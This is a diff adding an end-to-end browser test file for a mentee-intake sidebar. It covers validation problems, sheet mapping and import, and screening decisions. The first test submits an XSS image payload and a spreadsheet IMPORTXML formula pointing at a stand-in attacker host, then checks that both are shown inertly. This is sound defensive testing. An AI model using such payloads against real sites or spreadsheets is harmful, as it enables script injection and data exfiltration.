@@ -1,0 +1,106 @@
+import path from 'node:path';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { type PreviewServer, startPreview } from '../../preview/server';
+import { artifactPath, launchChromium } from '../support/browser';
+
+let preview: PreviewServer;
+let browser: Browser;
+let page: Page;
+
+beforeAll(async () => {
+  preview = await startPreview({ root: path.resolve('.'), port: 0, stateFile: null });
+  browser = await launchChromium();
+});
+
+afterAll(async () => {
+  await browser?.close();
+  await preview?.close();
+});
+
+beforeEach(async () => {
+  await fetch(`${preview.url}/__dev/reset`, { method: 'POST', body: JSON.stringify({ scenario: 'demo' }) });
+  page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
+});
+
+async function post(url: string, body: unknown) {
+  return (await (await fetch(`${preview.url}${url}`, { method: 'POST', body: JSON.stringify(body) })).json()) as Record<string, unknown>;
+}
+
+async function openIntake() {
+  await page.goto(preview.url);
+  await page.click('#extensions-menu');
+  await page.click('[data-function="openSidebar"]');
+  const frame = page.frameLocator('#sidebar-frame');
+  await frame.locator('#tab-intake').click();
+  await frame.locator('#response-sheets').waitFor();
+  return frame;
+}
+
+const HOSTILE = '<img src=x onerror="window.__pwned=1">';
+
+describe('intake in the sidebar', () => {
+  it('shows a submitted response as a record, and its problem in the open problems', async () => {
+    const reply = await post('/__dev/form-submit', {
+      sheet: 'Mentee intake',
+      answers: {
+        'Full name': HOSTILE,
+        Email: 'not-an-email',
+        'Year of birth': '1990',
+        'Languages you speak': ['Klingon', 'English'],
+        'What do you need help with most? (first is most important)': ['Housing'],
+        'What would you like to achieve?': `=IMPORTXML("http://evil.example","//a") ${'x'.repeat(5000)}`,
+        'I agree to the processing of my data': 'Yes, I agree',
+      },
+    });
+    expect(reply.ok).toBe(true);
+    expect((reply.triggers as { ok: boolean }[])[0]!.ok).toBe(true);
+
+    const frame = await openIntake();
+    const problems = frame.locator('#intake-problems');
+    await expect.poll(() => problems.textContent()).toContain('language not recognised: "Klingon"');
+    await expect(problems.textContent()).resolves.toContain('"not-an-email" is not an email address');
+    // The hostile name is shown as text, never as markup.
+    await expect(problems.textContent()).resolves.toContain(HOSTILE);
+    await expect(frame.locator('img').count()).resolves.toBe(0);
+    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+    await page.screenshot({ path: artifactPath('intake-problems.png') });
+
+    const workbook = (await (await fetch(`${preview.url}/__dev/workbook`)).json()) as { sheets: { name: string; values: string[][] }[] };
+    const mentees = workbook.sheets.find((s) => s.name === 'Mentees')!.values;
+    const last = mentees.at(-1)!;
+    expect(last).toContain(HOSTILE);
+    expect(last.some((v) => v.startsWith('=IMPORTXML'))).toBe(true);
+  });
+
+  it('maps a new response sheet and imports it with a progress bar', async () => {
+    const frame = await openIntake();
+    await frame.locator('[data-map="Mentee intake"]').click();
+    await frame.locator('#mapping-editor').waitFor();
+    await expect(frame.locator('#mapping-kind').inputValue()).resolves.toBe('mentee');
+    await page.screenshot({ path: artifactPath('intake-mapping.png') });
+    await frame.locator('#mapping-save').click();
+    await expect.poll(() => frame.locator('.notice.ok').first().textContent()).toContain('Mapping saved');
+    await frame.locator('[data-import="Mentee intake"]').click();
+    await expect.poll(() => frame.locator('.notice.ok').first().textContent()).toContain('Import finished: 0 new');
+  });
+
+  it('records a screening decision and prepares the feedback message', async () => {
+    const frame = await openIntake();
+    await frame.locator('#applicants-group > summary').click();
+    const applicant = frame.locator('#applicants li').filter({ hasText: 'ME-0002' });
+    await applicant.locator('summary').click();
+    await applicant.locator('select').selectOption('Not selected');
+    await applicant.locator('input[type="text"]').fill('Lives outside the area');
+    await applicant.getByRole('button', { name: 'Save decision' }).click();
+    await expect.poll(() => frame.locator('.notice.ok').first().textContent()).toContain('Decision saved for ME-0002');
+    await frame.locator('#applicants-group > summary').click();
+    const again = frame.locator('#applicants li').filter({ hasText: 'ME-0002' });
+    await again.locator('summary').click();
+    await again.getByRole('button', { name: 'Feedback message' }).click();
+    const message = await again.locator('textarea').inputValue();
+    expect(message).toContain('Dear Yonas');
+    expect(message).not.toContain('outside the area');
+    await page.screenshot({ path: artifactPath('intake-feedback.png') });
+  });
+});
